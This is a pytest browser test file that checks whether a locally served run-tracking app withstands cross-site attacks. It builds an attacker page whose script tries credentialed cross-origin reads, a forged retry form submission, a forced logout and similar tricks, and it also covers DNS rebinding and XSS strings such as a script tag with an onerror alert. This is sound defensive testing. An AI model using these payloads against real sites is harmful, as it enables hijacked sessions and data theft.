"""Other websites in the browser of somebody who is signed in at the page."""

from __future__ import annotations

import itertools
import json
from http.server import BaseHTTPRequestHandler
from queue import Queue
from urllib.parse import quote, urlsplit

import pytest

from tests.browser.conftest import EVIL, NewPage, PageServer, Watched
from tests.loopback import listening

# Everything is tried at once; `done` reports what was readable, or what happened.
_EVIL_PAGE = """<!doctype html><title>evil</title>
<body><script>
const own = TARGET, run = RUN;
const found = [];
const note = (what) => found.push(what);
const read = (path, options) => fetch(own + path, options).then(async (answer) => {
  if (answer.type !== "opaque") note("read " + path + " " + await answer.text());
}).catch(() => {});
const load = (kind, attribute, path) => new Promise((resolve) => {
  const each = document.createElement(kind);
  each.onload = () => { if (kind !== "iframe") note("loaded " + path); resolve(); };
  each.onerror = resolve;
  each[attribute] = own + path;
  document.body.append(each);
  setTimeout(resolve, 3000);
});
const streamed = new Promise((resolve) => {
  const source = new EventSource(own + "/live/runs", {withCredentials: true});
  source.onmessage = (event) => { note("event " + event.data); resolve(); };
  source.onerror = () => { source.close(); resolve(); };
});
const form = document.createElement("form");
form.method = "post"; form.action = own + "/act/retry"; form.target = "hidden";
form.innerHTML = `<input name="run" value="${run}">`;
const frame = document.createElement("iframe"); frame.name = "hidden";
document.body.append(frame, form);
form.submit();
const body = `{"run": "${run}"}`;
const tell = () => fetch("/done", {method: "POST", body: JSON.stringify(found)});
Promise.all([
  read("/runs", {credentials: "include"}),
  read("/api/v1/runs", {credentials: "include", mode: "no-cors"}),
  read("/api/v1/runs", {credentials: "include"}),
  read("/api/v1/actions/retry", {method: "POST", body, credentials: "include", mode: "no-cors"}),
  read("/act/retry", {method: "POST", body: "run=" + run, credentials: "include", mode: "no-cors"}),
  read("/logout", {method: "POST", credentials: "include", mode: "no-cors"}),
  load("script", "src", "/api/v1/runs"),
  load("img", "src", `/runs/${run}/download?inline=1&name=plot.png`),
  load("img", "src", "/static/icon.svg"),
  load("iframe", "src", "/runs"),
  streamed,
]).then(() => setTimeout(tell, 1500));
</script></body>"""


class _Evil(BaseHTTPRequestHandler):
    text: str
    told: Queue[str]

    def do_GET(self) -> None:
        self._answer(self.text.encode())

    def do_POST(self) -> None:
        length = int(self.headers["Content-Length"])
        self.told.put(self.rfile.read(length).decode())
        self._answer(b"")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.mark.attack
@pytest.mark.parametrize("host", [EVIL, "127.0.0.1"])
def test_other_website_reads_nothing_and_starts_nothing(
    page_server: PageServer, new_page: NewPage, watched: Watched, finished_run: str, host: str
) -> None:
    """The browser sends the cookie to all ports of 127.0.0.1, so the second is the harder one."""
    text = _EVIL_PAGE.replace("TARGET", json.dumps(page_server.address))
    text = text.replace("RUN", json.dumps(finished_run), 1)
    told: Queue[str] = Queue()
    page = new_page(page_server)

    def started() -> int:
        """Return the number of commands that this server has started."""
        numbers = itertools.count(1)
        jobs = (page.request.get(f"{page_server.address}/jobs/{number}") for number in numbers)
        return sum(1 for _ in itertools.takewhile(lambda job: job.status == 200, jobs))

    before = started()
    with listening(_Evil, text=text, told=told) as evil:
        page.goto(f"http://{host}:{urlsplit(evil).port}/")
        for _ in range(480):
            page.wait_for_timeout(250)
            if not told.empty():
                break
        found = json.loads(told.get_nowait())
        frames = [each.url for each in page.frames[1:]]
        texts = [each.content() for each in page.frames[1:]]
    assert found == []
    assert not [each for each in texts if finished_run in each], frames
    assert started() == before
    assert page.request.get(page_server.address + "/runs").status == 200  # still signed in
    assert watched.errors


@pytest.mark.attack
def test_another_port_of_the_host_receives_the_cookie(
    page_server: PageServer, new_page: NewPage
) -> None:
    """What the guide warns of: browsers do not separate cookies by port."""
    page = new_page(page_server)
    sent: Queue[tuple[str, str]] = Queue()

    class Other(_Evil):
        def do_GET(self) -> None:  # of pages, and of their icons at any time
            sent.put((self.headers["Host"].partition(":")[0], self.headers.get("Cookie", "")))
            super().do_GET()

    with listening(Other, text="", told=Queue()) as other:
        page.goto(f"http://127.0.0.1:{urlsplit(other).port}/")
        page.goto(f"http://{EVIL}:{urlsplit(other).port}/")
    name = page_server.cookie()[0]
    assert {(host, name in cookie) for host, cookie in list(sent.queue)} == {
        ("127.0.0.1", True), (EVIL, False),
    }  # fmt: skip


@pytest.mark.attack
def test_rebound_name_is_refused(page_server: PageServer, new_page: NewPage) -> None:
    page = new_page(page_server)
    port = urlsplit(page_server.address).port
    for path in ("/runs", "/health", "/static/page.css", f"/?token={page_server.link[-32:]}"):
        answered = page.goto(f"http://{EVIL}:{port}{path}")
        assert answered is not None
        assert answered.status == 403
        assert page.evaluate("document.cookie") == ""


@pytest.mark.attack
def test_opened_window_cannot_be_used(
    page_server: PageServer, new_page: NewPage, finished_run: str
) -> None:
    """A website may open the page in a tab, and then sees and does nothing there."""
    page = new_page(page_server)
    text = "<script>const opened = window.open(TARGET + '/runs')</script>"
    text = text.replace("TARGET", json.dumps(page_server.address))
    told: Queue[str] = Queue()
    with listening(_Evil, text=text, told=told) as evil:
        page.goto(f"http://{EVIL}:{urlsplit(evil).port}/")
        page.wait_for_timeout(1500)
        assert page.evaluate("!window.opened || window.opened.closed")


@pytest.mark.attack
def test_scripts_of_names_and_logs_do_not_run(
    page_server: PageServer, new_page: NewPage, finished_run: str
) -> None:
    page = new_page(page_server)
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    script = quote('"><script>alert(1)</script><img src=x onerror=alert(1)>')
    page.goto(f"/runs?q={script}&experiment={script}&since=1d")
    assert page.locator("img, main script").count() == 0
    page.goto(f"/runs/{script}")
    assert page.locator("img, main script").count() == 0
    page.goto(f"/runs/{finished_run}")
    assert page.locator("#log b").count() == 0
    assert "<b>begin</b>" in page.inner_text("#log")
